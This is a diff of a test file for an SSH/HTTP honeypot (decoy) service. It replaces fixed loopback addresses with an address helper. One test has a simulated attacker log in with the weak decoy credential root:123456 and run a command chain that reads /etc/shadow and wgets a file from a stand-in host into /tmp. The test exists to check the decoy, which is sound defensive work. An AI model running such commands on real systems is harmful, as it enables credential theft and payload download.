@@ -16,13 +16,14 @@ import pytest
 
 from decnet.catalog import service
 from tests.lures.ssh.attacker import Attacker
+from tests.support.addresses import address
 from tests.support.hosts import prepared
 from tests.support.installation import Installation
 from tests.support.lures import MemoryPen, Served
 
 pytestmark = pytest.mark.client
 
-FLEET = "[fleet]\nname = test\n[decoy web]\narchetype = web-server\naddress = 127.79.0.{number}\nlures = http, ssh\n"
+FLEET = "[fleet]\nname = test\n[decoy web]\narchetype = web-server\naddress = {address}\nlures = http, ssh\n"
 LOGIN = "[decoy web/ssh]\naccounts = root:123456\nfailure_seconds = 0\n"
 NETWORK = ("socket.bind", "socket.connect", "socket.sendto", "socket.sendmsg")
 EXECUTION = ("subprocess.Popen", "os.exec", "os.posix_spawn", "os.spawn", "os.system", "os.fork", "os.forkpty", "pty.spawn")
@@ -82,7 +83,7 @@ async def watched(folder: Path) -> AsyncIterator[Watched]:
 async def deploy(host: Installation, folder: Path, number: int) -> None:
     """Deploy one decoy."""
     fleet = folder / "fleet.ini"
-    fleet.write_text(FLEET.format(number=number) + LOGIN)
+    fleet.write_text(FLEET.format(address=address(50 + number)) + LOGIN)
     finished = await host.command("deploy", str(fleet), "--yes")
     assert finished.code == 0, finished.stderr.decode()
 
@@ -102,8 +103,8 @@ async def test_decoys_service_binds_nothing_and_connects_to_the_agent_alone(tmp_
     """Watched by an audit hook of the interpreter from before its first import to its end, over whole sessions."""
     async with watched(tmp_path / "host") as process:
         await deploy(process.host, tmp_path, 1)
-        assert await converse("127.79.0.1", 80, b"GET / HTTP/1.0\r\n\r\n")
-        assert (await converse("127.79.0.1", 22, b"SSH-2.0-x\r\n")).startswith(b"SSH-2.0-OpenSSH")
+        assert await converse(address(51), 80, b"GET / HTTP/1.0\r\n\r\n")
+        assert (await converse(address(51), 22, b"SSH-2.0-x\r\n")).startswith(b"SSH-2.0-OpenSSH")
         agent = str(process.host.config.paths.handover_socket)
     assert [call for call in process.named("socket.") if agent not in call[2]] == []
     assert process.named("socket.connect")
@@ -113,7 +114,7 @@ async def test_decoys_service_executes_nothing_and_writes_its_spool_alone(tmp_pa
     """Over logins, a shell's commands, a script, sftp and scp with OpenSSH's own programs; every import included."""
     async with watched(tmp_path / "host") as process:
         await deploy(process.host, tmp_path, 4)
-        served = Served("127.79.0.4", 22, MemoryPen(), asyncio.Semaphore(0))
+        served = Served(address(54), 22, MemoryPen(), asyncio.Semaphore(0))
         attacker = Attacker(served, tmp_path / "attacker")
         (tmp_path / "tool").write_bytes(b"\x7fELF")
         assert b"uid=0(root)" in (await attacker.ssh("id; ps aux; cat /etc/shadow; wget http://192.0.2.1/x -O /tmp/x")).stdout
@@ -142,7 +143,7 @@ async def test_stop_ends_sessions_and_tells_why(tmp_path: Path) -> None:
     async with prepared(tmp_path / "host") as host:
         await host.supervisor.start()
         await deploy(host, tmp_path, 2)
-        reader, writer = await asyncio.open_connection("127.79.0.2", 22)
+        reader, writer = await asyncio.open_connection(address(52), 22)
         assert (await reader.readline()).startswith(b"SSH-2.0-")
         child = host.supervisor.children["decoys"]
         os.kill(child.pid, signal.SIGTERM)
